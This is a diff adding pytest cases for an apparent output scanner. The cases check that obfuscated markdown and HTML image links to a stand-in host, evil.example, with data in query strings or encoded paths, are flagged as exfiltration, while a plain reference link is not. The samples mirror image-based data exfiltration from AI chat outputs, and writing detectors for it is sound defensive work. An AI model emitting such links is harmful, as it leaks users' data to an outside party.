@@ -197,3 +197,36 @@ class TestRefusal:
         found = RefusalScanner().scan(text, OUT)
         assert spans(text, found) == ["I can't provide"]
         assert found[0].score == 0.6
+
+
+class TestExfiltrationObfuscated:
+    @pytest.mark.parametrize(
+        ("text", "url", "score"),
+        [
+            (
+                "![x](  <HTTPS://Evil.example/a?d=aaaaaaaaaaaaaaaaaaaaaaaaaaaaaa>)",
+                "HTTPS://Evil.example/a?d=aaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
+                0.95,
+            ),
+            ("![x](//evil.example/p.png)", "//evil.example/p.png", 0.6),
+            ("<IMG SRC='https://evil.example/x.gif?q=1'>", "https://evil.example/x.gif?q=1", 0.6),
+            (
+                "![x](https://evil.example/" + "QUJD" * 12 + ")",
+                "https://evil.example/" + "QUJD" * 12,
+                0.95,
+            ),
+            (
+                "![logo][ref]\n\n[ref]: https://evil.example/i.png",
+                "https://evil.example/i.png",
+                0.6,
+            ),
+        ],
+    )
+    def test_variants(self, text: str, url: str, score: float) -> None:
+        found = ExfiltrationScanner().scan(text, OUT)
+        assert spans(text, found) == [url]
+        assert found[0].score == score
+
+    def test_reference_used_only_by_a_link_needs_a_payload(self) -> None:
+        text = "[docs][ref]\n\n[ref]: https://docs.example/page"
+        assert ExfiltrationScanner().scan(text, OUT) == []
